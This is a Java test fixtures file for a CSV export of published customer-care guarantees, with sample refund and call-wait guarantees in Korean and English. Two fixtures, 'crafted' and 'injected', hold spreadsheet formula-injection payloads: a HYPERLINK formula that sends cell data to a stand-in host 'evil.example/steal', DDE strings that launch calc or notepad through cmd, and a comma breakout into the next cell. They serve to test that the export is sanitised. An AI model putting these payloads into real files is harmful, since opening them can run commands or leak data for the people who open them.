package io.blueprint.reports.policy.export;

import io.blueprint.journey.Channel;
import io.blueprint.policy.AmountKind;
import io.blueprint.policy.BreachUnit;
import io.blueprint.policy.ClaimChannel;
import io.blueprint.policy.ClaimChannelKind;
import io.blueprint.policy.ConditionOperator;
import io.blueprint.policy.ConditionUnit;
import io.blueprint.policy.GuaranteeCondition;
import io.blueprint.policy.GuaranteeMetric;
import io.blueprint.policy.GuaranteeStatus;
import io.blueprint.policy.Payout;
import io.blueprint.policy.RefundRuleTerms;
import io.blueprint.policy.Remedy;
import io.blueprint.reports.policy.PublishedGuarantee;
import io.blueprint.reports.policy.PublishedGuarantee.TouchpointRef;
import io.blueprint.reports.policy.wording.PolicyLabels;

import java.math.BigDecimal;
import java.time.Instant;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;

/** Guarantee versions as the read model gives them, like the demo's, and one crafted to attack a spreadsheet. */
final class Fixtures {

    static final LocalDate AS_OF = LocalDate.of(2026, 11, 23);
    static final String CALL_TITLE = "Refund calls answered within 2 minutes · 환불 문의 전화 2분 내 연결";
    static final String REFUND_TITLE = "Refund within 3 business days of your return arriving · 반품 도착 후 3영업일 내 환불";
    static final String POSTAL_ADDRESS = "서울특별시 중구 세종대로 110, 고객환불팀";
    static final String FORMULA_TITLE = "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click\")";

    /** Labels that name their key and arguments, so tests see which text went where. */
    static final PolicyLabels KEYS = PolicyLabels.of(Locale.ENGLISH, (key, arguments) ->
            arguments.length == 0 ? key : key + Arrays.toString(arguments));

    private Fixtures() {
    }

    static PublishedGuarantee careCall(int revision, int seconds) {
        return new PublishedGuarantee("CARE-CALL-2MIN", revision, GuaranteeStatus.PUBLISHED, 1L,
                "Online store customer care", revision == 2 ? CALL_TITLE : "Refund calls answered within 3 minutes",
                "환불 문의 전화는 2분 안에 상담원이 받습니다.",
                new GuaranteeCondition(GuaranteeMetric.WAIT_TIME, ConditionOperator.AT_MOST, new BigDecimal(seconds),
                        ConditionUnit.SECONDS),
                "Calls to 1588-0000 · 평일 09:00–18:00", List.of("전국적 통신 장애"),
                List.of(new ClaimChannel(ClaimChannelKind.PHONE, "1588-0000", null)),
                LocalDate.of(2026, 10, 24), null, null,
                List.of(new TouchpointRef("RET-CALL-01", Channel.PHONE, "Return a damaged item", "Call")),
                "Customer Care",
                List.of(new RefundRuleTerms(Remedy.POINTS_CREDIT, AmountKind.PER_BREACH_UNIT, new BigDecimal("1000.00"),
                        BreachUnit.MINUTES, 10, new BigDecimal("5000.00"), "KRW", Payout.AUTOMATIC, List.of(), null)),
                "executive", Instant.parse("2026-10-24T01:00:00Z"));
    }

    static PublishedGuarantee refund() {
        return new PublishedGuarantee("RET-REFUND-3BD", 1, GuaranteeStatus.PUBLISHED, 1L,
                "Online store customer care", REFUND_TITLE,
                "반품 상품이 물류센터에 도착한 뒤 3영업일 안에 환불합니다.",
                new GuaranteeCondition(GuaranteeMetric.REFUND_TIME, ConditionOperator.AT_MOST, new BigDecimal("3"),
                        ConditionUnit.BUSINESS_DAYS),
                "웹과 앱에서 구매한 파손 상품 반품", List.of("선불 반품 라벨 없이 보낸 상품", "해지된 계좌로의 환불"),
                List.of(new ClaimChannel(ClaimChannelKind.EMAIL, "refunds@shop.example.com", null),
                        new ClaimChannel(ClaimChannelKind.POST, POSTAL_ADDRESS, "04524")),
                LocalDate.of(2026, 5, 27), null, null,
                List.of(new TouchpointRef("RET-MAIL-01", Channel.EMAIL, "Return a damaged item", "Mail"),
                        new TouchpointRef("RET-STORE-01", Channel.STORE, "Return a damaged item", "Store")),
                "Finance",
                List.of(new RefundRuleTerms(Remedy.CASH_REFUND, AmountKind.PER_BREACH_UNIT, new BigDecimal("2000.00"),
                        BreachUnit.DAYS, 1, new BigDecimal("20000.00"), "KRW", Payout.ON_CLAIM,
                        List.of("주문에서 '환불 지연' 선택", "Confirm the bank account"), 30)),
                "executive", Instant.parse("2026-05-27T01:00:00Z"));
    }

    /** A guarantee whose texts start with every formula sign a spreadsheet would run. */
    static PublishedGuarantee crafted() {
        return new PublishedGuarantee("ZZ-CRAFTED", 1, GuaranteeStatus.PUBLISHED, 1L, "@SUM(1+1)*cmd|' /C calc'!A0",
                FORMULA_TITLE, "+1+cmd|' /C notepad'!A0",
                new GuaranteeCondition(GuaranteeMetric.WAIT_TIME, ConditionOperator.AT_MOST, new BigDecimal("60"),
                        ConditionUnit.SECONDS),
                "-2+3", List.of("\t=1+1", "＝1+1"), List.of(), LocalDate.of(2026, 11, 1), LocalDate.of(2026, 12, 31),
                null, List.of(), "=owner", List.of(), "executive", Instant.parse("2026-11-01T00:00:00Z"));
    }

    /** The service name of the CSV-injection report: a comma ends a cell, so a formula can start the next. */
    static final String INJECTED_SERVICE = "X,=cmd|' /C calc'!A0,";

    /**
     * A guarantee of a service named to break out of a cell, with texts that start with every other formula
     * sign: + - @, tab, carriage return and the full-width ＝.
     */
    static PublishedGuarantee injected() {
        return new PublishedGuarantee("ZZ-INJECTED", 1, GuaranteeStatus.PUBLISHED, 7L, INJECTED_SERVICE,
                "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0",
                new GuaranteeCondition(GuaranteeMetric.WAIT_TIME, ConditionOperator.AT_MOST, new BigDecimal("60"),
                        ConditionUnit.SECONDS),
                "@SUM(1+1)", List.of("\r=1+1", "＝1+1"),
                List.of(new ClaimChannel(ClaimChannelKind.WEB, "\t=cmd|' /C calc'!A0", null)),
                LocalDate.of(2026, 11, 1), null, null, List.of(), "=owner",
                List.of(new RefundRuleTerms(Remedy.VOUCHER, AmountKind.FIXED, new BigDecimal("5000"), null, null, null,
                        "KRW", Payout.AUTOMATIC, List.of(), null)),
                "@approver", Instant.parse("2026-11-01T00:00:00Z"));
    }

    /** The export of the injected guarantee, filtered to its service, so the name is also the filter's. */
    static GuaranteeExport injectedExport() {
        return GuaranteeExport.of(new ExportFilter(AS_OF, 7L, INJECTED_SERVICE, null), List.of(injected()));
    }

    static GuaranteeExport export(PublishedGuarantee... versions) {
        return GuaranteeExport.of(ExportFilter.onDay(AS_OF), List.of(versions));
    }
}
